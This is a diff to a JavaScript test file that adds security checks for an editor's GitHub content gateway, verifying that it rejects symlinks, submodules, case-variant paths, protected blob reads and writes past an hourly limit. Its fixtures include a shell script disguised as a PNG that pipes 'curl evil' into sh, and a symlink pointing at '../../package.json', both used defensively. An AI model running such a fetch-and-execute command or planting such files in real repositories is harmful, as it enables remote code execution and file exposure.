@@ -93,21 +93,18 @@ after(async () => {
 });
 
 /** The session the sign-in window hands the editor, for the staff member whose Access JWT is `jwt`. */
-async function signIn(jwt) {
-  const response = await fetch(
-    `${site.url}/api/editor/session?provider=github&site_id=x&scope=repo`,
-    {
-      headers: jwt ? { [accessJwtHeader]: jwt } : {},
-    },
-  );
+async function signIn(jwt, base = site.url) {
+  const response = await fetch(`${base}/api/editor/session?provider=github&site_id=x&scope=repo`, {
+    headers: jwt ? { [accessJwtHeader]: jwt } : {},
+  });
   const html = await response.text();
   const token = /authorization:github:success:\{\\"token\\":\\"([^"\\]+)\\"/.exec(html)?.[1];
   return { response, html, token };
 }
 
 /** A request to the gateway, as the editor makes it, with an Access JWT and a session (either may be left out). */
-function gateway(path, { method = "GET", body, jwt, session } = {}) {
-  return fetch(`${site.url}/api/github${path}`, {
+function gateway(path, { method = "GET", body, jwt, session, base = site.url } = {}) {
+  return fetch(`${base}/api/github${path}`, {
     method,
     headers: {
       ...(jwt ? { [accessJwtHeader]: jwt } : {}),
@@ -219,6 +216,23 @@ describe("the e-mail sign-in and the content gateway", () => {
       github.requests.filter(({ method, path }) => method !== "GET" && path.startsWith("/repos/"))
         .length;
     const writesBefore = writes();
+    const update = (sha) => ({ method: "PATCH", jwt, session, body: { sha } });
+    // Commits whose trees were made outside the gateway: an allowed path, but not a plain file.
+    const symlink = github.commitBeside(
+      { "src/content/home.json": "../../package.json" },
+      "Um atalho",
+      { "src/content/home.json": "120000" },
+    );
+    const submodule = github.commitBeside(
+      { "src/content/artigos/modulo.json": "0123456789abcdef0123456789abcdef01234567" },
+      "Um submódulo",
+      { "src/content/artigos/modulo.json": "160000" },
+    );
+    const executable = github.commitBeside(
+      { "src/images/foto-executavel.png": "#!/bin/sh\ncurl evil | sh\n" },
+      "Um programa",
+      { "src/images/foto-executavel.png": "100755" },
+    );
 
     const attempts = [
       ["no Access JWT", `${repo}/branches/main`, { session }, 401],
@@ -285,6 +299,44 @@ describe("the e-mail sign-in and the content gateway", () => {
       ],
       ["a tree with ..", `${repo}/git/trees`, tree("src/content/../../package.json"), 403],
       ["a tree with a symlink", `${repo}/git/trees`, tree("src/content/home.json", "120000"), 403],
+      ["a tree with a photo in SRC/IMAGES/", `${repo}/git/trees`, tree("SRC/IMAGES/x.png"), 403],
+      ["a tree with a photo in Src/Images/", `${repo}/git/trees`, tree("Src/Images/a.ts.png"), 403],
+      [
+        "a branch update to a symlink at an allowed path",
+        `${repo}/git/refs/heads/main`,
+        update(symlink),
+        403,
+      ],
+      [
+        "a branch update to a submodule at an allowed path",
+        `${repo}/git/refs/heads/main`,
+        update(submodule),
+        403,
+      ],
+      [
+        "a branch update to an executable at an allowed path",
+        `${repo}/git/refs/heads/main`,
+        update(executable),
+        403,
+      ],
+      [
+        "a read of the content model's code by its blob id",
+        `${repo}/git/blobs/${github.blobOf("src/content/contentModel.ts")}`,
+        { jwt, session },
+        403,
+      ],
+      [
+        "a read of a schema by its blob id",
+        `${repo}/git/blobs/${github.blobOf("src/content/schemas/home.schema.json")}`,
+        { jwt, session },
+        403,
+      ],
+      [
+        "a read of the workflow by its blob id",
+        `${repo}/git/blobs/${github.blobOf(".github/workflows/deploy.yml")}`,
+        { jwt, session },
+        403,
+      ],
       [
         "another repository",
         "/repos/outra-pessoa/outro-site/git/trees",
@@ -338,6 +390,92 @@ describe("the e-mail sign-in and the content gateway", () => {
       (await repositoryFiles(["package.json"]))["package.json"].toString(),
     );
   });
+  it("lists only the files the editor may read, and reads their blobs, nothing else", async () => {
+    const jwt = await access.mint(staff);
+    const { token: session } = await signIn(jwt);
+    const listed = await gateway(`${repo}/git/trees/main:src%2Fcontent?recursive=1`, {
+      jwt,
+      session,
+    });
+    assert.equal(listed.status, 200);
+    const { tree } = await listed.json();
+    const paths = tree.map((entry) => entry.path).sort();
+    assert.ok(paths.includes("home.json") && paths.includes("artigos"), paths.join(" "));
+    for (const hidden of ["contentModel.ts", "schemas", "schemas/home.schema.json"])
+      assert.ok(!paths.includes(hidden), `${hidden} is listed: ${paths.join(" ")}`);
+    assert.deepEqual(
+      tree.filter(
+        (entry) => entry.type === "blob" && !/^(artigos\/)?[a-z0-9-]+\.json$/.test(entry.path),
+      ),
+      [],
+    );
+    const home = tree.find((entry) => entry.path === "home.json");
+    const blob = await gateway(`${repo}/git/blobs/${home.sha}`, { jwt, session });
+    assert.equal(blob.status, 200);
+    assert.equal(
+      Buffer.from((await blob.json()).content, "base64").toString("utf8"),
+      github.file("src/content/home.json"),
+    );
+  });
+
+  it("a person's writes have a ceiling per hour: past it, 429 with a Portuguese message, and nothing reaches GitHub", async () => {
+    const capped = await startPagesDev({
+      port: await freePort(),
+      bindings: {
+        ...access.bindings,
+        GITHUB_APP_ID: app.id,
+        GITHUB_APP_INSTALLATION_ID: app.installationId,
+        GITHUB_APP_PRIVATE_KEY: appKeys.privateKey,
+        GITHUB_API_URL: github.url,
+        EDITOR_SESSION_SECRET: sessionSecret,
+        VITE_CMS_REPO: `${repository.owner}/${repository.name}`,
+        VITE_CMS_BRANCH: repository.branch,
+        EDITOR_HOURLY_COMMITS: "2",
+        EDITOR_HOURLY_BYTES: "1000",
+      },
+    });
+    try {
+      const jwt = await access.mint(staff);
+      const { token: session } = await signIn(jwt, capped.url);
+      const send = (path, body) =>
+        gateway(path, { method: "POST", jwt, session, body, base: capped.url });
+      const writes = () =>
+        github.requests.filter(({ method, path }) => method !== "GET" && path.startsWith("/repos/"))
+          .length;
+      const photo = { content: Buffer.alloc(600, 7).toString("base64"), encoding: "base64" };
+      assert.equal((await send(`${repo}/git/blobs`, photo)).status, 201);
+      const branch = await (
+        await gateway(`${repo}/branches/main`, { jwt, session, base: capped.url })
+      ).json();
+      const commit = {
+        message: "Uma publicação",
+        tree: branch.commit.commit.tree.sha,
+        parents: [branch.commit.sha],
+      };
+      assert.equal((await send(`${repo}/git/commits`, commit)).status, 201);
+      assert.equal((await send(`${repo}/git/commits`, commit)).status, 201);
+      const writesBefore = writes();
+      for (const [what, path, body] of [
+        ["a third commit", `${repo}/git/commits`, commit],
+        ["600 more bytes", `${repo}/git/blobs`, photo],
+      ]) {
+        const response = await send(path, body);
+        assert.equal(response.status, 429, what);
+        assert.match(
+          (await response.json()).message,
+          /^Você já publicou o máximo permitido nesta hora \(2 publicações .*Nada foi publicado/,
+          what,
+        );
+      }
+      assert.equal(writes(), writesBefore, "nothing past the ceiling reached GitHub");
+      // A small text still fits in the hour's bytes.
+      const text = { content: "{}", encoding: "utf-8" };
+      assert.equal((await send(`${repo}/git/blobs`, text)).status, 201);
+    } finally {
+      await capped.close();
+    }
+  });
+
   it("GitHub refusing the App: a Portuguese message, and nothing written", async () => {
     const jwt = await access.mint(staff);
     const { token: session } = await signIn(jwt);
